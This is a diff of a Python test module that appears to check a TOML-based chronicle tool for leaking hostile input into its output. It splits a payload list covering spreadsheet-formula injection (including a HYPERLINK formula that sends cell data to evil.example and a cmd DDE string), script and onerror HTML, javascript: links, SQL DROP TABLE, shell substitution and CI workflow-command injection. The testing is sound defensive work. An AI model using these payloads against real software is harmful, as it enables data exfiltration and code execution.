@@ -38,8 +38,10 @@ PAYLOADS: Final = {
     "a formula": '=HYPERLINK("http://evil.example/?"&A1,"x")',
     "formulas by other signs": "+1+cmd|' /C calc'!A0",
     "a formula behind blanks": "\t =1+1",
-    "Markdown and HTML": "</td><script>x</script> ![i](http://evil.example/i) [l](javascript:x) | `c` **b** <!-- #",
-    "quotes and escapes": "\"quoted\" 'single' \\x1b \\ '; DROP TABLE fact; -- %s {0} {x} $(touch x) `x` %0A::error::x",
+    "HTML": "</td><script>x</script> &lt; <!-- <img src=x onerror=x>",
+    "Markdown": "![i](http://evil.example/i) [l](javascript:x) | `c` **b** #",
+    "quotes and escapes": "\"quoted\" 'single' \\x1b \\ %s {0} {x} $(touch x) `x` %0A::error::x",
+    "SQL": "'; DROP TABLE fact; --",
     "questions to SQLite": '" OR 1=1 NEAR(a b) a* -b NOT ^c col:x "',
     "a long word": "x" * 600,
     "wide characters": "漢字かな交じり文" * 8,
@@ -90,7 +92,11 @@ def leaks(heard: Heard, *, csv: bool = False, coloured: bool = False) -> list[st
     out = heard.out.removeprefix("\ufeff").replace("\r\n", "\n").replace("\t", " ") if csv else heard.out
     if coloured:
         out = _OUR_LINKS.sub("", _OUR_COLOURS.sub("", out))
-    return [*_steering(out), *_steering(heard.err), *(line for line in heard.err.split("\n") if "Traceback" in line)]
+    return [
+        *_steering(out),
+        *_steering(heard.err),
+        *(line for line in heard.err.split("\n") if "Traceback" in line),
+    ]
 
 
 def _steering(text: str) -> Iterator[str]:
@@ -103,7 +109,14 @@ def _steering(text: str) -> Iterator[str]:
 
 def toml(text: str) -> str:
     """A text as a TOML string in which every byte is plain ASCII."""
-    return '"' + "".join(one if one.isascii() and one.isprintable() and one not in '"\\' else f"\\U{ord(one):08X}" for one in text) + '"'
+    return (
+        '"'
+        + "".join(
+            one if one.isascii() and one.isprintable() and one not in '"\\' else f"\\U{ord(one):08X}"
+            for one in text
+        )
+        + '"'
+    )
 
 
 def facts(number: int, text: str) -> str:
@@ -185,7 +198,7 @@ sources = ["s{n}"]
 
 
 def mistakes(number: int, text: str) -> str:
-    """Entries with the text where no text belongs: in ids, keys, tables, references, dates, amounts and words."""
+    """Entries with the text where none belongs: in ids, keys, tables, references, dates and amounts."""
     t, n = toml(text), number
     return f"""
 [people.{t}]
@@ -227,29 +240,39 @@ lead = {t}
 def make(root: Path, entries: str, *, title: str = "A base") -> Path:
     """A base of one file of facts beside its chronicle.toml."""
     root.mkdir()
-    (root / "chronicle.toml").write_text(f"[chronicle]\ntitle = {toml(title)}\ndescription = {toml(title)}\n", "utf-8")
+    (root / "chronicle.toml").write_text(
+        f"[chronicle]\ntitle = {toml(title)}\ndescription = {toml(title)}\n", "utf-8"
+    )
     (root / "facts.toml").write_text(entries, "utf-8")
     return root
 
 
 def odd_base(root: Path) -> Path:
     """A base without a mistake, every text of which is a payload."""
-    return make(root, "".join(facts(n, text) for n, text in enumerate(PAYLOADS.values())), title="".join(PAYLOADS.values())[:2000])
+    return make(
+        root,
+        "".join(facts(n, text) for n, text in enumerate(PAYLOADS.values())),
+        title="".join(PAYLOADS.values())[:2000],
+    )
 
 
 def broken_base(root: Path) -> Path:
-    """A base of mistakes, with file names of payloads too, and the payloads as they are instead of escaped."""
+    """A base of mistakes, with payloads for names of files too, and as they are instead of escaped."""
     base = make(root, "".join(mistakes(n, text) for n, text in enumerate(PAYLOADS.values())))
     for n, text in enumerate([*PAYLOADS.values(), *SURROGATES.values()]):
         raw = text.encode("utf-8", "surrogatepass")
         (base / f"raw{n}.toml").write_bytes(
-            b'[events.r%d]\ntitle = "%s"\n[events.q%d] # %s\ntitle = %s\n[people.%s]\nname = "x"\n' % (n, raw, n, raw, raw, raw)
+            b'[events.r%d]\ntitle = "%s"\n[events.q%d] # %s\ntitle = %s\n[people.%s]\nname = "x"\n'
+            % (n, raw, n, raw, raw, raw)
         )
         name = text.replace("/", "").replace("\0", "")[:40]
         folder = base / f"d{n}{name}"
         try:
             folder.mkdir()
-            (folder / f"{name}.toml").write_text(f'[events.named{n}]\ntitle = 1\n[events.named-{n}]\ntitle = "y"\n', "utf-8")
+            (folder / f"{name}.toml").write_text(
+                f'[events.named{n}]\ntitle = 1\n[events.other{n}]\ntitle = "y"\n[events.twice]\ntitle = "z"',
+                "utf-8",
+            )
         except (OSError, UnicodeEncodeError):  # this system has no such name
             continue
     return base
